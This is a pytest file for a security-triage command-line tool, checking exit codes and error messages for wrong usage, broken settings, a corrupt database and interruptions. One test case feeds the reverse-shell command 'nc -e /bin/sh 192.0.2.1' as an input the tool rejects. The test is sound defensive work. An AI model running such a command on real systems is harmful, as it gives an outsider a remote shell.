"""How commands end on wrong use, on errors and on an interruption."""

from pathlib import Path

import pytest

from secassist.backends.base import Request
from tests.cli.conftest import Commands
from tests.cli.samples import calm


class TestUsage:
    @pytest.mark.parametrize(
        ("words", "says"),
        [
            (("triage",), "paths"),
            (("triage", "/no/such/file"), "no such file"),
            (("triage", "nc -e /bin/sh 192.0.2.1"), "a command itself goes to standard input"),
            (("triage", "nc " * 200), "no such file"),
            (("triage", "{calm}", "--source", "nosuch"), "nosuch"),
            (("triage", "{calm}", "--format", "nosuch"), "nosuch"),
            (("triage", "{calm}", "--fail-on", "nosuch"), "nosuch"),
            (("triage", "{calm}", "--language", "fr"), "language"),
            (("triage", "{calm}", "--no-such-option"), "option"),
            (("scan",), "scan"),
            (("scan", "{calm}", "--only", "triage"), "--only"),
            (("scan", "--diff", "main..HEAD", "/"), "not in a git repository"),
            (("nosuch",), "nosuch"),
            (("show", "abcdef"), "abcdef"),
            (("show", "x"), "no analysis id"),
            (("advise", "abcdef"), "abcdef"),
            (("report", "--since", "yesterday"), "yesterday"),
            (("report", "--since", "99999999999d"), "99999999999d"),
            (("report", "--format", "nosuch"), "nosuch"),
            (("report", "--format", "sarif"), "SARIF"),
            (("correct", "abcdef", "--disposition", "false_positive", "--author", "ana"), "abcdef"),
            (("prompts", "show", "triage@x"), "triage@x"),
            (("evaluate", "--data", "/no/such", "--out", "o", "--predictions", "p"), "/no/such"),
            (("evaluate", "--data", ".", "--out", "o", "--predictions", "p", "--part", "x"), "part"),
        ],
    )
    def test_wrong_use_ends_with_2_and_says_what_is_wrong(
        self, secassist: Commands, inbox: Path, words: tuple[str, ...], says: str
    ) -> None:
        path = str(calm(inbox))
        ran = secassist(*(word.replace("{calm}", path) for word in words))
        assert ran.code == 2, ran.err
        assert says in ran.err
        assert "Traceback" not in ran.err
        assert ran.err.strip()

    def test_a_wrong_setting(self, secassist: Commands, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setenv("SECASSIST_BATCH", "many")
        ran = secassist("list")
        assert (ran.code, "batch" in ran.err) == (2, True)


class TestInternal:
    def test_a_database_that_is_none(self, secassist: Commands) -> None:
        secassist.home.mkdir()
        (secassist.home / "secassist.db").write_text("this is no database, and it is longer than a header of one" * 20)
        ran = secassist("list")
        assert ran.code == 2
        assert "secassist.db" in ran.err
        assert "Traceback" not in ran.err

    def test_an_error_nobody_thought_of_is_not_taken_for_a_finding(self, secassist: Commands, inbox: Path) -> None:
        def broken(_: Request) -> str:
            raise ZeroDivisionError("the secret word is invented-canary")

        secassist.script = broken
        ran = secassist("triage", calm(inbox))
        assert ran.code == 4
        assert "ZeroDivisionError" in ran.err
        assert "invented-canary" not in ran.err

    def test_more_is_shown_when_asked_for(
        self, secassist: Commands, inbox: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        secassist.script = lambda _: 1 / 0
        monkeypatch.setenv("SECASSIST_TRACEBACK", "1")
        assert "Traceback" in secassist("triage", calm(inbox)).err

    def test_interrupted(self, secassist: Commands, inbox: Path) -> None:
        def interrupt(_: Request) -> str:
            raise KeyboardInterrupt

        secassist.script = interrupt
        assert secassist("triage", calm(inbox)).code == 130


def test_a_folder_named_as_the_report_is_refused_before_any_work(secassist: Commands, tmp_path: Path) -> None:
    ran = secassist("demo", "--out", tmp_path)
    assert ran.code == 2
    assert "is a folder" in ran.err and secassist.asked == 0
